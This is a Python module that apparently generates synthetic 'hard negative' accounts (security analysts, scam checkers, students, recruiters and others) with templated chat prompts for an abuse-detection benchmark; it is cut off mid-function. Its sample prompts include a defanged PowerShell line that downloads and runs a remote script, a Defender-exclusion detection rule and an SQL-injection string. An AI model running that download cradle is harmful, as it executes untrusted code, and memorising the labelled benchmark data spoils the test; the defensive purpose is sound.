"""Hard negatives: benign accounts that look suspicious on one signal.  Fixed cast; independent of scale."""
from engine import (Account, rng, hexid, set_ctx, pick_ctx, window_starts, session_starts, gen_ordinary_activity,
                    TALKERS, MODELS, API_UA, UA, iso, MONTH_SECONDS, code_prompt, code_answer)
from ops_common import fill, shared_exit, clamp_obs_time, obs_id, handle, light_edit, exit_for
import ops1
import ops3


class Group:
    def __init__(self, w, gid, desc):
        self.w = w
        self.gid = gid
        self.desc = desc
        self.r = rng(w.seed, "hn", gid)
        self.accounts = []
        self.n = 0

    def account(self, lang, country, tz, off, locale, channel="chat", org=None):
        self.n += 1
        a = Account(self.w.new_account_id("hn", self.gid, self.n), lang, country, tz, off, locale)
        a.channel = channel
        a.org = org
        a.model = self.r.choice(MODELS)
        a.tz_report = 0.9
        self.accounts.append(a)
        return a

    def truth(self):
        return {"id": self.gid, "description": self.desc, "accounts": sorted(a.id for a in self.accounts)}


def corp_email(w, r, lang, domain):
    email, _ = w.email_for(r, lang, "US", domain=domain)
    return email


def _old_created(r):
    return -r.randint(30 * 86400, 900 * 86400)


def custom_sessions(w, a, r, starts, prompt_fn, per=(1, 4), gap=(40, 400)):
    conv = None
    for t in starts:
        net = pick_ctx(r, a)
        dev = r.choice(a.devices) if a.devices else None
        conv = "conv-" + hexid(r, 12)
        for j in range(r.randint(per[0], per[1])):
            p, resp = prompt_fn(r, j)
            w.emit(a, t, p, resp, conv=conv, net=net, dev=dev)
            t += r.randint(gap[0], gap[1])


# ---------------------------------------------------------------------------------------------
SOC_PROMPTS = [
    ("Here is a deobfuscated PowerShell line from a phishing attachment our finance team received. What does it do and which IOCs should we extract?\n\n$u='hxxps://cdn-invoice-view[.]com/a.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)",
     "It downloads a second-stage script and runs it in memory. Extract the domain, the full URL and the file name, and search proxy logs for the same path."),
    ("Write a Sigma rule for Add-MpPreference -ExclusionPath executed by a process whose parent is not an installer or a management agent.",
     "title: Defender exclusion added by unusual parent\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: 'Add-MpPreference'\n    CommandLine|contains: '-ExclusionPath'\n  filter:\n    ParentImage|endswith: ['\\msiexec.exe', '\\ccmexec.exe']\n  condition: sel and not filter"),
    ("Explain DLL side-loading with a signed binary in plain language, so I can write detection guidance for our helpdesk.",
     "A legitimate signed program loads a DLL from its own folder before the system folder. If someone drops a malicious DLL with the expected name next to it, the trusted program loads it."),
    ("Summarize this sandbox report into a short incident ticket: process tree shows winword.exe -> powershell.exe -> rundll32.exe, network connection to an IP on port 8443, scheduled task 'UpdSvc' created.",
     "Incident summary: Office macro spawned PowerShell, which launched rundll32 and set persistence via scheduled task 'UpdSvc'. Outbound traffic on 8443. Isolate host, collect task XML and memory."),
    ("Write a user awareness email about the fake invoice campaign hitting our finance team this week.",
     "Subject: Beware of fake invoice emails\n\nThis week we have seen emails pretending to be supplier invoices. Do not open attachments you did not expect; forward them to security@ instead."),
    ("Convert this IOC list into a KQL query for DeviceNetworkEvents: two IPs, one domain, port 8443.",
     "DeviceNetworkEvents\n| where RemotePort == 8443\n| where RemoteIP in (ip1, ip2) or RemoteUrl has 'domain'\n| project Timestamp, DeviceName, InitiatingProcessFileName, RemoteIP"),
    ("Übersetze diese Vorfallszusammenfassung für den Kunden ins Englische: Der betroffene Rechner wurde isoliert, das Passwort des Benutzers zurückgesetzt.",
     "The affected machine was isolated and the user's password was reset."),
    ("What are good detection ideas for Go binaries that beacon over HTTPS at a fixed interval?",
     "Look for new binaries without file metadata making periodic POST requests, JA3 fingerprints typical of the Go TLS stack, and regular intervals in proxy logs."),
]


def soc_dynamic(w, r):
    ioc = w.iocs.get("thin_thread_c2", "198.51.100.23")
    return r.choice([
        ("Write a YARA rule for Go samples that contain the strings 'sendPing', 'grabInfo' and 'q7Lw-2291-ZK'. We pulled them from a sample on a client laptop.",
         "rule go_beacon_family {\n  strings:\n    $a = \"sendPing\"\n    $b = \"grabInfo\"\n    $c = \"q7Lw-2291-ZK\"\n  condition:\n    uint16(0) == 0x5A4D and 2 of them\n}"),
        ("Our EDR flagged beaconing to %s:8443 every 45 seconds from two hosts. What should be in the first-hour response checklist?" % ioc,
         "1. Isolate both hosts. 2. Block the IP at the perimeter. 3. Pull process trees and autoruns. 4. Check for scheduled tasks and Defender exclusions. 5. Reset affected credentials."),
        ("This Go function was in the sample we reversed. Explain what it sends, for the report:\nfunc grabInfo() hostInfo { h, _ := os.Hostname(); return hostInfo{Name: h, User: os.Getenv(\"USERNAME\"), OS: runtime.GOOS} }",
         "It collects the hostname, the Windows user name and the operating system and returns them in a struct that is later serialised to JSON and posted to the server."),
    ])


def hn_soc(w):
    g = Group(w, "hn-01", "Security operations team of a managed-security provider analysing malware samples, writing detection rules and incident notes")
    r = g.r
    org = "org-" + hexid(r, 10)
    office = w.company_net("DE", 90011)
    card = w.new_card(r)
    for i in range(r.randint(5, 7)):
        a = g.account("en", "DE", "Europe/Berlin", 1, r.choice(["en-US", "de-DE"]), org=org)
        a.devices = [w.new_device(r, "win_chrome"), w.new_device(r, "linux_firefox")]
        set_ctx(a, [(4.0, [office]), (1.0, [w.home_net(r, "DE")])])
        w.set_info(a, r, email=corp_email(w, r, "de", "secops-partner.de"), phone="DE", payment=card,
                   created=_old_created(r), plan="team")
        starts = window_starts(r, 1, {0, 1, 2, 3, 4}, [(8.0, 12.5), (13.0, 18.5)], r.randint(9, 14))
        starts += session_starts(r, 1, "night", r.randint(1, 2))  # on-call
        starts.sort()

        def pf(rr, j):
            if rr.random() < 0.3:
                return soc_dynamic(w, rr)
            if rr.random() < 0.15:
                p, _ = code_prompt(rr)
                return p, code_answer(rr)
            return rr.choice(SOC_PROMPTS)
        custom_sessions(w, a, r, starts, pf, per=(1, 4))
    return [g]


# ---------------------------------------------------------------------------------------------
SCAMQ = {
    "en": ["I got this message on WhatsApp from a number I don't know. Is this a scam?\n\n\"{m}\"", "My mom received this text, is it legit?\n\"{m}\"",
           "Someone on Telegram offered me this job: \"{m}\" Sounds too good to be true?"],
    "es": ["Me llegó este mensaje por WhatsApp de un número desconocido, ¿es una estafa?\n\n«{m}»", "¿Esto es real o es fraude? «{m}»"],
    "de": ["Ich habe diese Nachricht bekommen, ist das Betrug?\n\n„{m}“", "Meine Tochter hat das auf Telegram bekommen. Seriös? „{m}“"],
    "sw": ["Nimepokea ujumbe huu kwenye WhatsApp, je ni utapeli?\n\n\"{m}\""],
    "fr": ["J'ai reçu ce message, est-ce une arnaque ? « {m} »"],
    "pt": ["Recebi essa mensagem, é golpe? \"{m}\""],
    "zh": ["我收到这样一条消息,是不是诈骗?“{m}”"],
    "ar": ["وصلتني هذه الرسالة، هل هي احتيال؟ «{m}»"],
}
SCAMA = {
    "en": "This has the typical signs of a task scam: easy money for likes, then an upgrade, then a fee before you can withdraw. Do not pay anything and block the number.",
    "es": "Tiene las señales típicas de una estafa de tareas: dinero fácil por dar 'me gusta' y luego una tarifa para retirar. No pagues nada y bloquea el número.",
    "de": "Das sind typische Merkmale eines Aufgabenbetrugs: leichtes Geld für Likes, dann eine Gebühr vor der Auszahlung. Nichts zahlen und die Nummer blockieren.",
    "sw": "Hizi ni dalili za kawaida za utapeli: pesa rahisi kwa kupenda video, kisha ada kabla ya kutoa pesa. Usilipe chochote na uzuie namba hiyo.",
    "fr": "Ce sont les signes classiques d'une arnaque aux tâches : de l'argent facile, puis des frais avant retrait. Ne payez rien.",
    "pt": "Tem todos os sinais de golpe de tarefas: dinheiro fácil por curtidas e depois uma taxa para sacar. Não pague nada.",
    "zh": "这是典型的刷单诈骗:先给小额佣金,再要求交费才能提现。不要付款,直接拉黑。",
    "ar": "هذه علامات احتيال معروفة: أرباح سهلة ثم رسوم قبل السحب. لا تدفع شيئاً واحظر الرقم.",
}
RECOVERY_Q = {
    "en": "I lost money to a fake crypto platform last year and now a law firm emailed me saying they traced it and can recover it for a retainer. Is this real?\n\n{m}",
    "es": "Perdí dinero en una plataforma de criptomonedas falsa y ahora un bufete me escribe que puede recuperarlo si pago un anticipo. ¿Es real?\n\n{m}",
    "de": "Ich habe letztes Jahr Geld bei einer falschen Krypto-Plattform verloren, jetzt schreibt mir eine Kanzlei, sie könne es gegen Vorschuss zurückholen. Echt?\n\n{m}",
}


def hn_scam_checkers(w):
    g = Group(w, "hn-02", "Ordinary people pasting messages they received and asking whether they are scams")
    r = g.r
    pool = [("en", "US", "America/New_York", -5, "en-US"), ("en", "GB", "Europe/London", 0, "en-GB"), ("en", "KE", "Africa/Nairobi", 3, "en-KE"),
            ("en", "NG", "Africa/Lagos", 1, "en-NG"), ("es", "MX", "America/Mexico_City", -6, "es-MX"), ("es", "CO", "America/Bogota", -5, "es-CO"),
            ("es", "ES", "Europe/Madrid", 1, "es-ES"), ("de", "DE", "Europe/Berlin", 1, "de-DE"), ("sw", "KE", "Africa/Nairobi", 3, "sw-KE"),
            ("sw", "TZ", "Africa/Dar_es_Salaam", 3, "sw-TZ"), ("fr", "FR", "Europe/Paris", 1, "fr-FR"), ("pt", "BR", "America/Sao_Paulo", -3, "pt-BR"),
            ("zh", "TW", "Asia/Taipei", 8, "zh-TW"), ("ar", "EG", "Africa/Cairo", 2, "ar-EG"), ("en", "US", "America/Chicago", -6, "en-US")]
    n = r.randint(40, 60)
    for i in range(n):
        lang, c, tz, off, loc = r.choice(pool)
        a = g.account(lang, c, tz, off, loc)
        a.devices = [w.new_device(r)]
        set_ctx(a, [(2.0, [w.home_net(r, c)]), (1.0, r.choice(w.carrier[c]))])
        w.set_info(a, r, phone=c, created=_old_created(r), plan=r.choice(["free", "free", "plus"]),
                   payment=None)
        if a.info.get("plan") == "plus":
            a.info["payment"] = w.new_card(r)

        def extra(rr, lang=lang):
            x = rr.random()
            mlang = lang if lang in ("en", "es", "de", "sw") else rr.choice(["en", "en", "es"])
            if x < 0.65:
                m = ops3.re_script(rr, mlang, rr.choice(["ping", "ping", "sting"]))
                q = rr.choice(SCAMQ.get(lang, SCAMQ["en"]))
                return q.replace("{m}", m), lang, SCAMA.get(lang, SCAMA["en"])
            if x < 0.85 and lang in RECOVERY_Q:
                slots = {"v": "Sir/Madam", "f": rr.choice(ops3.PS_FIRM), "p": rr.choice(ops3.PS_PLATFORM), "amt": "$9,300",
                         "fee": "$1,850", "case": "AR-2026-%04d" % rr.randint(100, 9999)}
                return RECOVERY_Q[lang].replace("{m}", fill(rr, ops3.PS_LETTER, slots)), lang, SCAMA.get(lang, SCAMA["en"]).split(":")[0] + "."
            m = "Your parcel could not be delivered. Pay the $1.99 redelivery fee here: hxxps://parcel-redeliver[.]info"
            q = rr.choice(SCAMQ.get(lang, SCAMQ["en"]))
            return q.replace("{m}", m), lang, SCAMA.get(lang, SCAMA["en"])
        gen_ordinary_activity(w, a, r, r.choice(["evening", "retiree", "mixed"]), -86400 * 100, n_target=r.randint(12, 30),
                              extra_prompts=(0.18, extra))
    return [g]


# ---------------------------------------------------------------------------------------------
def hn_factcheck(w):
    g = Group(w, "hn-03", "Newsroom fact-checking desk analysing propaganda and suspected coordinated campaigns")
    r = g.r
    org = "org-" + hexid(r, 10)
    office = w.company_net("ES", 90021)
    card = w.new_card(r)
    for i in range(r.randint(5, 8)):
        a = g.account(r.choice(["es", "es", "en"]), "ES", "Europe/Madrid", 1, "es-ES", org=org)
        a.devices = [w.new_device(r, "mac_safari"), w.new_device(r, "iphone_safari")]
        set_ctx(a, [(3.0, [office]), (1.0, [w.home_net(r, "ES")]), (0.5, r.choice(w.carrier["ES"]))])
        w.set_info(a, r, email=corp_email(w, r, "es", "redaccion-verifica.es"), phone="ES", payment=card,
                   created=_old_created(r), plan="team")
        starts = window_starts(r, 1, {0, 1, 2, 3, 4}, [(9.5, 14.0), (15.5, 21.0)], r.randint(8, 13))
        starts += window_starts(r, 1, {5, 6}, [(11.0, 20.0)], r.randint(0, 2))
        starts.sort()

        def pf(rr, j):
            x = rr.random()
            if x < 0.3:
                c = rr.choice(ops1.TI_COUNTRY)
                t = rr.choice(ops1.TI_TOPIC)
                art = ops1._ti_article(rr, c[1], c[2], t[1], t[2], rr.choice(ops1.TI_PERSONA), rr.choice(ops1.TI_ROLE)[1])
                return ("Analiza este artículo de opinión publicado en un medio regional. ¿Qué señales sugieren que podría formar parte de una campaña coordinada? No saques conclusiones sin pruebas.\n\n" + art,
                        "Algunas señales a verificar: firma sin trayectoria previa, argumentos idénticos en otros medios, ausencia de fuentes locales. Ninguna basta por sí sola; conviene buscar el texto en otros sitios y revisar quién lo envió.")
            if x < 0.5:
                post = fill(rr, rr.choice(ops1.GH_POST), {"p": rr.choice(ops1.GH_PERSONA)[1], "s": rr.choice(ops1.GH_TOPIC)[1]})
                return ("Translate this German Telegram post into Spanish and list the narratives it pushes:\n\n" + post,
                        "Traducción: ...\n\nNarrativas: costes de la energía atribuidos a las sanciones, desconfianza en el gobierno regional, llamada implícita al voto de castigo.")
            if x < 0.62:
                tw = fill(rr, rr.choice(ops1.SE_TWEET_EN), {"place": "Phoenix", "t": "foreign wars", "tag": "NoMoreWars"})
                return ("We found dozens of accounts posting near-identical lines like this one. What checks should we run before calling it inauthentic?\n\n" + tw,
                        "Check account creation dates, posting times, reused profile photos, identical phrasing across accounts and whether the accounts interact with each other.")
            return rr.choice([
                ("Resume en cinco puntos cómo reconocer una red de cuentas falsas en X.", "1. Fechas de creación agrupadas. 2. Fotos de perfil reutilizadas. 3. Mensajes casi idénticos. 4. Horarios de publicación sincronizados. 5. Pocas interacciones reales."),
                ("Escribe un hilo explicativo para nuestra cuenta sobre cómo verificar una imagen antes de compartirla.", "1/ Antes de compartir una imagen, haz una búsqueda inversa..."),
                ("¿Qué diferencia hay entre desinformación y propaganda? Para un taller con estudiantes.", "La propaganda busca persuadir con un fin político; la desinformación es información falsa difundida a sabiendas."),
                ("Corrige el estilo de este titular: 'Verificamos: no, el gobierno no prohibió el pan'", "Verificación: el Gobierno no ha prohibido el pan"),
            ])
        custom_sessions(w, a, r, starts, pf, per=(1, 3))
    # the desk publishes its own explainers
    ro = rng(w.seed, "obs", g.gid)
    for k in range(2):
        w.observe({"id": obs_id(ro), "time": iso(ro.randint(5, 28) * 86400 + 9 * 3600), "platform": "news",
                   "author": "Redacción Verifica", "community": "Verifica (sección)", "language": "es",
                   "text": ro.choice(["Cómo detectar campañas coordinadas: cinco señales que usamos en la redacción antes de publicar.",
                                      "Guía: qué hacer si recibes una oferta de empleo que paga por dar 'me gusta' a vídeos."]),
                   "engagement": {"views": ro.randint(4000, 30000), "shares": ro.randint(40, 400)}, "authentic_engagement": True})
    return [g]


# ---------------------------------------------------------------------------------------------
TICKETS = ["My order arrived with a cracked screen protector, can I get a replacement?", "I was charged twice for my subscription this month.",
           "The app logs me out every time I switch to another app.", "Where is my refund? It has been 12 days.",
           "Can I change the delivery address after checkout?", "The discount code SPRING10 does not work at checkout.",
           "Your courier left the parcel in the rain and the box is soaked.", "How do I delete my account and all my data?"]
REVIEWS = ["El producto llegó rápido pero la talla es más pequeña de lo normal.", "Sehr gute Qualität, würde ich wieder kaufen.",
           "Livraison en retard et aucun suivi disponible.", "Produto excelente, chegou antes do prazo.", "サイズがぴったりで満足しています。"]


def hn_api(w):
    g = Group(w, "hn-04", "An online retailer's support-automation integration: service accounts sending templated API requests around the clock")
    r = g.r
    org = "org-" + hexid(r, 10)
    card = w.new_card(r)
    ips = [w.hosting_ip(r, 2) for _ in range(3)]
    company = "brightcart-shop.com"
    for i in range(r.randint(3, 5)):
        a = g.account("en", "US", None, -5, None, channel="api", org=org)
        a.devices = []
        ua = r.choice(API_UA)
        a.devices = [("", ua)]
        set_ctx(a, [(1.0, ips)])
        w.set_info(a, r, email="svc-%s@%s" % (r.choice(["support", "reviews", "orders", "triage", "etl"]) + str(i), company),
                   phone=None, payment=card, created=_old_created(r), plan="api")
        n = r.randint(150, 300)
        # around the clock, weekday heavier
        hours = ([0.6] * 7 + [1.0] * 12 + [0.8] * 5, 1.0, 0.7)
        times = session_starts(r, -5, None, n, weekend=(5, 6), hours=hours)
        for t in times:
            x = r.random()
            if x < 0.5:
                tk = r.choice(TICKETS)
                num = r.randint(40000, 99999)
                p = "Summarize the following customer support ticket in one sentence and classify its urgency as low, medium or high.\n\nTicket #%d: %s" % (num, tk)
                resp = '{"summary": "%s", "urgency": "%s"}' % (tk[:60].replace('"', "'"), r.choice(["low", "medium", "high"]))
            elif x < 0.8:
                num = r.randint(100000, 999999)
                p = "Extract the order number, product name and requested action from this email. Reply as JSON.\n\nHello, regarding order %d (%s), %s" % (
                    num, r.choice(["wireless earbuds", "yoga mat", "coffee grinder", "desk lamp", "running shoes"]),
                    r.choice(["I would like to return it.", "it has not arrived yet.", "can you change the colour?", "please cancel it."]))
                resp = '{"order": "%d", "product": "...", "action": "%s"}' % (num, r.choice(["return", "track", "modify", "cancel"]))
            else:
                rv = r.choice(REVIEWS)
                p = "Translate the following product review into English and rate its sentiment from 1 to 5:\n\n" + rv
                resp = '{"translation": "...", "sentiment": %d}' % r.randint(1, 5)
            w.emit(a, t, p, resp, conv=None, net=r.choice(ips), dev=None)
    return [g]


# ---------------------------------------------------------------------------------------------
SEC_COURSE = [
    ("For my security course: explain how a stack buffer overflow overwrites the return address, and how stack canaries stop it.",
     "When a function copies more data into a local buffer than it can hold, the extra bytes overwrite the saved return address. A canary is a random value placed before it and checked on return."),
    ("CTF help: I have a pcap with HTTP traffic. Which Wireshark filter shows POST requests so I can find the login form?",
     "Use http.request.method == \"POST\" and then follow the TCP stream of the request."),
    ("Explain SQL injection with a small example for my web security assignment and how prepared statements fix it.",
     "If user input is concatenated into a query, a value like ' OR '1'='1 changes its meaning. Prepared statements send the query and the data separately."),
    ("What does this assembly do? mov eax, [ebp+8]; add eax, 1; ret", "It loads the first argument, adds one and returns it: an increment function."),
    ("Our lab assignment says to write a port scanner in Python for localhost only. How do I use socket with a timeout?",
     "Create a socket, call settimeout(0.5), then connect_ex(('127.0.0.1', port)); a return value of 0 means the port is open."),
]


def hn_lab(w):
    g = Group(w, "hn-05", "University computer lab: students sharing lab machines and the campus NAT, coursework including a security class")
    r = g.r
    nat = [w.company_net("CA", 90031), w.company_net("CA", 90032)]
    lab = [w.new_device(r, "linux_firefox"), w.new_device(r, "win_chrome"), w.new_device(r, "linux_chrome"),
           w.new_device(r, "win_edge"), w.new_device(r, "linux_firefox")]
    langs = [("en", "en-CA", "CA"), ("en", "en-CA", "CA"), ("en", "en-CA", "CA"), ("zh", "zh-CN", "CN"), ("zh", "zh-CN", "CN"),
             ("fa", "fa-IR", "IR"), ("hi", "hi-IN", "IN"), ("ko", "ko-KR", "KR"), ("en", "en-IN", "IN")]
    for i in range(r.randint(18, 30)):
        lang, loc, home_c = r.choice(langs)
        a = g.account(lang, "CA", "America/Toronto", -5, loc)
        a.devices = r.sample(lab, r.randint(1, 3)) + [w.new_device(r)]
        set_ctx(a, [(3.0, nat), (1.0, r.choice(w.carrier["CA"])), (1.0, [w.home_net(r, "CA")])])
        em = corp_email(w, r, lang, "mylakeshore.ca")
        w.set_info(a, r, email=em, domain="mylakeshore.ca", phone=r.choice(["CA", "CA", home_c]), created=_old_created(r),
                   plan=r.choice(["free", "free", "plus"]))
        if a.info.get("plan") == "plus":
            a.info["payment"] = w.new_card(r)

        def extra(rr):
            p, resp = rr.choice(SEC_COURSE)
            return p, "en", resp
        gen_ordinary_activity(w, a, r, "student", -86400 * 200, n_target=r.randint(20, 40), extra_prompts=(0.15, extra))
    return [g]


# ---------------------------------------------------------------------------------------------
def hn_families(w):
    fams = [("ru", "RU", "Europe/Moscow", 3, "ru-RU"), ("zh", "CN", "Asia/Shanghai", 8, "zh-CN"), ("fa", "IR", "Asia/Tehran", 3.5, "fa-IR"),
            ("en", "US", "America/Chicago", -6, "en-US"), ("pt", "BR", "America/Sao_Paulo", -3, "pt-BR")]
    groups = []
    for k, (lang, c, tz, off, loc) in enumerate(fams):
        g = Group(w, "hn-%02d" % (6 + k), "A family sharing one home connection and one laptop (%s)" % c)
        r = g.r
        home = w.home_net(r, c)
        laptop = w.new_device(r, r.choice(["win_chrome", "mac_safari"]))
        card = w.new_card(r)
        vpn = w.pick_vpn(r, lang, 2) if c in ("CN", "IR", "RU") else []
        for i in range(r.randint(2, 4)):
            l2 = lang if (i < 2 or r.random() < 0.6) else "en"
            a = g.account(l2, c, tz, off, loc)
            a.devices = [laptop, w.new_device(r, r.choice(["iphone_safari", "android_app", "ios_app"]))]
            pairs = [(3.0, [home]), (1.0, r.choice(w.carrier[c]))]
            if vpn:
                pairs.append((2.0, vpn))
            set_ctx(a, pairs)
            plan = "plus" if r.random() < 0.5 else "free"
            w.set_info(a, r, phone=c, payment=card if plan == "plus" else None, created=_old_created(r), plan=plan)
            gen_ordinary_activity(w, a, r, r.choice(["evening", "student", "office", "retiree"]), -86400 * 300)
        groups.append(g)
    return groups


# ---------------------------------------------------------------------------------------------
RECRUIT = [
    ("Write a job post for a Senior React Engineer, remote within the US, fintech client, salary range $150-175k.",
     "Senior React Engineer (Remote, US)\nOur client, a growing fintech company, is looking for..."),
    ("Give me 10 interview questions for a backend Go developer, with what a good answer sounds like.",
     "1. How do you handle context cancellation in a service? A good answer mentions context.Context propagation..."),
    ("Write a polite rejection email to a candidate after the final round.", "Dear Alex,\n\nThank you for the time you spent with our team..."),
    ("Summarize this résumé in 3 bullets for the hiring manager: 7 years full stack, React/Node/AWS, led checkout migration, BS Computer Science.",
     "- 7 years of full-stack experience (React, Node, AWS)\n- Led a checkout migration\n- BS in Computer Science"),
    ("Write a LinkedIn InMail to a passive candidate who is a DevOps engineer.", "Hi Sam, I came across your profile and was impressed by your Kubernetes work..."),
    ("How can we spot candidates who use borrowed identities or proxies in remote interviews? Our client got burned last quarter.",
     "Ask for a short live video segment, verify identity documents through a provider, check that references are reachable, and watch for mismatched time zones."),
    ("Rewrite this job ad to be more inclusive: 'Looking for a young, energetic rockstar developer.'", "We're looking for an energetic, motivated developer..."),
]


def hn_recruiters(w):
    g = Group(w, "hn-11", "Staffing agency recruiters writing job posts, interview questions and candidate emails")
    r = g.r
    org = "org-" + hexid(r, 10)
    office = w.company_net("US", 90041)
    card = w.new_card(r)
    for i in range(r.randint(4, 6)):
        a = g.account("en", "US", "America/Chicago", -6, "en-US", org=org)
        a.devices = [w.new_device(r, "win_chrome"), w.new_device(r, "iphone_safari")]
        set_ctx(a, [(4.0, [office]), (1.0, [w.home_net(r, "US")])])
        w.set_info(a, r, email=corp_email(w, r, a.lang, "talentbridge-staffing.com"), phone="US", payment=card, created=_old_created(r), plan="team")
        starts = window_starts(r, -6, {0, 1, 2, 3, 4}, [(8.0, 12.0), (13.0, 17.5)], r.randint(9, 14))
        custom_sessions(w, a, r, starts, lambda rr, j: rr.choice(RECRUIT), per=(1, 4))
    return [g]


# ---------------------------------------------------------------------------------------------
ZH_WORK = [("帮我写一份季度工作总结,部门是市场部,重点是新媒体投放效果。", "第一季度工作总结\n一、投放概况……"),
           ("把这段英文邮件翻译成中文:We would like to reschedule the call to Thursday afternoon.", "我们希望把电话会议改到周四下午。"),
           ("Excel里怎么用VLOOKUP匹配两张表的客户编号?", "在目标单元格输入 =VLOOKUP(A2, Sheet2!A:C, 3, FALSE) ……"),
           ("帮我润色一下给外国客户的英文邮件:We are very sorry for the late of shipment.", "We sincerely apologize for the delay in shipment."),
           ("写一个部门周报模板,包括本周完成、下周计划、风险。", "【本周完成】\n【下周计划】\n【风险与需要支持】"),
           ("帮我看看这段Python为什么报错:KeyError: 'date'", "说明字典里没有 'date' 这个键,可以先用 .get('date') ……")]


def hn_zh_vpn(w):
    g = Group(w, "hn-12", "Unrelated office workers in Beijing and Shanghai prompting in Chinese during office hours over popular VPN exits")
    r = g.r
    ex = exit_for(w, "zh", "zh-shared")
    ex2 = exit_for(w, "zh", "hn12-2")
    for i in range(r.randint(12, 20)):
        tz = "Asia/Shanghai"
        a = g.account("zh", "CN", tz, 8, "zh-CN")
        a.devices = [w.new_device(r, r.choice(["win_chrome", "mac_chrome", "win_edge"])), w.new_device(r, r.choice(["iphone_safari", "android_app2"]))]
        set_ctx(a, [(3.0, [ex] if r.random() < 0.7 else [ex2]), (1.0, [ex2]), (0.5, [w.company_net("CN", 90050 + i)])])
        plan = r.choice(["plus", "free", "free"])
        w.set_info(a, r, phone=r.choice(["CN", "CN", "HK", None]), payment=w.new_card(r) if plan == "plus" else None,
                   created=_old_created(r), plan=plan)
        gen_ordinary_activity(w, a, r, "office", -86400 * 300, n_target=r.randint(20, 40),
                              extra_prompts=(0.35, lambda rr: (lambda pr: (pr[0], "zh", pr[1]))(rr.choice(ZH_WORK))))
    return [g]


# ---------------------------------------------------------------------------------------------
AG_CLIENTS = ["Panadería La Espiga", "Clínica Dental Sonrisas", "Café Altura", "Gimnasio Fuerza Norte", "Librería El Faro"]
AG_CAMPAIGN = ["Día de Reyes", "San Valentín", "regreso a clases", "rebajas de enero", "aniversario"]
AG_POSTS = ["¡{c} te espera este fin de semana con algo especial para {k}! 🎉 #Promo #CDMX",
            "En {c} creemos que cada detalle cuenta. Ven a conocernos y celebra {k} con nosotros ✨",
            "¿Ya planeaste {k}? En {c} tenemos todo listo para ti 🙌 Reserva por DM.",
            "Gracias por 5 años de confianza 💛 Esta semana, sorpresas en {c}.",
            "Nuevo horario en {c}: ahora abrimos desde las 7 am ☕ ¡Te esperamos!"]


def hn_agency(w):
    g = Group(w, "hn-13", "Marketing agency writing batches of social-media posts for named, paying clients from one office")
    r = g.r
    org = "org-" + hexid(r, 10)
    office = w.company_net("MX", 90061)
    card = w.new_card(r)
    published = []
    for i in range(r.randint(5, 8)):
        a = g.account(r.choice(["es", "es", "en"]), "MX", "America/Mexico_City", -6, "es-MX", org=org)
        a.devices = [w.new_device(r, "mac_chrome")]
        set_ctx(a, [(4.0, [office]), (1.0, r.choice(w.carrier["MX"]))])
        w.set_info(a, r, email=corp_email(w, r, a.lang, "agencia-brillo.mx"), phone="MX", payment=card, created=_old_created(r), plan="team")
        starts = window_starts(r, -6, {0, 1, 2, 3, 4}, [(9.0, 14.0), (15.0, 19.0)], r.randint(9, 14))

        def pf(rr, j, _a=a):
            c = rr.choice(AG_CLIENTS)
            k = rr.choice(AG_CAMPAIGN)
            x = rr.random()
            if x < 0.45:
                posts = [fill(rr, p, {"c": c, "k": k}) for p in rr.sample(AG_POSTS, 4)]
                published.append((c, posts))
                return ("Escribe 10 publicaciones para Instagram para nuestro cliente %s, campaña %s. Tono cercano, con emojis y hashtags." % (c, k), "\n\n".join(posts))
            if x < 0.6:
                return ("Write 8 LinkedIn posts for our client %s announcing their new location." % c,
                        "1. Big news: %s is opening a new location!\n2. ..." % c)
            if x < 0.8:
                return ("Dame un calendario de contenidos de febrero para %s, tres publicaciones por semana." % c,
                        "Semana 1: lunes promo, miércoles detrás de cámaras, viernes testimonio...")
            return ("Redacta el reporte mensual para %s: alcance %d, interacciones %d, seguidores nuevos %d." % (c, rr.randint(8000, 60000), rr.randint(400, 5000), rr.randint(50, 900)),
                    "Reporte mensual de %s\nAlcance: ...\nInteracciones: ...\nConclusión: crecimiento sostenido." % c)
        custom_sessions(w, a, r, starts, pf, per=(1, 4))
    ro = rng(w.seed, "obs", g.gid)
    for c, posts in ro.sample(published, min(len(published), 10)):
        p = ro.choice(posts)
        w.observe({"id": obs_id(ro), "time": iso(ro.randint(2, 30) * 86400 + ro.randint(14, 23) * 3600), "platform": ro.choice(["instagram", "facebook"]),
                   "author": c.lower().replace(" ", "").replace("í", "i").replace("ñ", "n"), "community": c, "language": "es",
                   "text": light_edit(ro, p),
                   "engagement": {"views": ro.randint(300, 9000), "likes": ro.randint(10, 600), "replies": ro.randint(0, 40), "followers": ro.randint(900, 25000)},
                   "authentic_engagement": True})
    return [g]


# ---------------------------------------------------------------------------------------------
BUREAU = [
    ("Übersetze diesen chinesischen Vertragsauszug ins Deutsche: 甲方应于收到发票后三十日内支付全部款项。", "Der Auftraggeber zahlt den gesamten Betrag innerhalb von dreißig Tagen nach Erhalt der Rechnung."),
    ("Übersetze die russische Urkunde ins Deutsche, Formatierung beibehalten: Свидетельство о рождении. Фамилия: Иванова. Имя: Анна.", "Geburtsurkunde. Familienname: Iwanowa. Vorname: Anna."),
    ("Übersetze diesen persischen Zeugnistext ins Deutsche: دانش‌آموز با معدل ۱۸ فارغ‌التحصیل شد.", "Der Schüler hat den Abschluss mit einem Notendurchschnitt von 18 erworben."),
    ("Translate this Spanish user manual paragraph into English: Mantenga el aparato alejado del agua y desconéctelo antes de limpiarlo.", "Keep the appliance away from water and unplug it before cleaning."),
    ("Übersetze ins Arabische: Bitte bringen Sie Ihren Reisepass zum Termin mit.", "يرجى إحضار جواز سفرك إلى الموعد."),
    ("Übersetze ins Türkische: Die Wohnung ist ab dem 1. März bezugsfertig.", "Daire 1 Mart'tan itibaren oturuma hazırdır."),
    ("Übersetze diesen russischen Pressetext ins Deutsche: Компания объявила о расширении производства в Саксонии.", "Das Unternehmen kündigte die Erweiterung der Produktion in Sachsen an."),
    ("Prüfe diese Übersetzung auf Fehler: 'Der Vertrag tritt mit Unterschrift in Kraft gesetzt.'", "Korrekt: 'Der Vertrag tritt mit der Unterzeichnung in Kraft.'"),
]


def hn_bureau(w):
    g = Group(w, "hn-14", "Translation bureau translating documents between many languages (Chinese, Russian, Persian, Arabic to German, etc.)")
    r = g.r
    org = "org-" + hexid(r, 10)
    office = w.company_net("DE", 90071)
    card = w.new_card(r)
    for i in range(r.randint(4, 6)):
        a = g.account("de", "DE", "Europe/Berlin", 1, "de-DE", org=org)
        a.devices = [w.new_device(r, "win_chrome")]
